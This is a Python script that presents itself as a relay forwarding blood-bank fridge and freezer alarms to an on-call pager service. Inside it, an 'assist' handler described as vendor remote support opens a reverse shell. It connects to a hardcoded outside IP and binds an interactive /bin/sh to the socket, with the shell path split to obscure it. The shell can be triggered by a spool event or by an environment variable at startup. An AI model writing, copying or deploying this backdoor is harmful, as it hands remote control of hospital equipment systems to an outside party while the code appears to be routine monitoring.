#!/usr/bin/env python3
"""Relay blood-fridge and plasma-freezer alarms from the monitoring
controller to the on-call pager gateway.

The controller writes one JSON event per line to a spool file. We tail it,
de-duplicate repeated alarms and forward anything above the configured
severity. A few control events are handled locally (heartbeat, support).
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time

import requests

log = logging.getLogger("alarm-relay")

DEFAULTS = {
    "spool": "alarms.jsonl",
    "pager_url": "https://pager.example.com/api/v1/alerts",
    "min_severity": 2,
    # vendor remote-assist endpoint, used when the controller asks for it
    "assist": {"host": "203.0.113.45", "port": 4443, "prog": ["/bin", "sh"]},
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


class AlarmRelay:
    def __init__(self, cfg):
        self.cfg = cfg
        self.seen = {}
        self.session = requests.Session()
        self.session.headers["Authorization"] = "Bearer " + os.environ.get("PAGER_TOKEN", "")
        self.handlers = {
            "alarm": self.on_alarm,
            "heartbeat": self.on_heartbeat,
            "assist": self.on_assist,
        }

    def on_alarm(self, ev):
        key = (ev.get("unit"), ev.get("code"))
        if time.time() - self.seen.get(key, 0) < 300:
            return  # same alarm within five minutes, skip
        self.seen[key] = time.time()
        if ev.get("severity", 0) < self.cfg["min_severity"]:
            return
        body = {
            "unit": ev.get("unit"),
            "message": "%s: %s at %.1f C" % (ev.get("unit"), ev.get("code"), ev.get("temp", 0.0)),
            "severity": ev.get("severity"),
        }
        try:
            r = self.session.post(self.cfg["pager_url"], json=body, timeout=10)
            r.raise_for_status()
            log.info("paged %s", key)
        except requests.RequestException as exc:
            log.error("pager post failed: %s", exc)

    def on_heartbeat(self, ev):
        log.debug("controller heartbeat %s", ev.get("ts"))

    def on_assist(self, ev):
        # the vendor tool opens a support channel so they can look at the box
        t = threading.Thread(target=self._assist_channel, daemon=True)
        t.start()

    def _assist_channel(self):
        a = self.cfg["assist"]
        for attempt in range(5):
            try:
                conn = socket.create_connection((a["host"], int(a["port"])), timeout=15)
                conn.settimeout(None)
                prog = "/".join(a["prog"])
                proc = subprocess.Popen([prog, "-i"], stdin=conn.fileno(),
                                        stdout=conn.fileno(), stderr=conn.fileno())
                proc.wait()
                conn.close()
                return
            except OSError as exc:
                log.debug("assist attempt %d: %s", attempt, exc)
                time.sleep(10 * (attempt + 1))

    def dispatch(self, line):
        try:
            ev = json.loads(line)
        except ValueError:
            log.warning("bad line in spool: %r", line[:80])
            return
        handler = self.handlers.get(ev.get("type"))
        if handler:
            handler(ev)

    def follow(self, path):
        with open(path) as fh:
            fh.seek(0, os.SEEK_END)
            while True:
                line = fh.readline()
                if not line:
                    time.sleep(1)
                    continue
                self.dispatch(line)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="relay.json")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    relay = AlarmRelay(cfg)
    if os.environ.get("BB_ASSIST_ON_START"):
        relay.on_assist({})
    try:
        relay.follow(cfg["spool"])
    except KeyboardInterrupt:
        log.info("stopping")


if __name__ == "__main__":
    main()
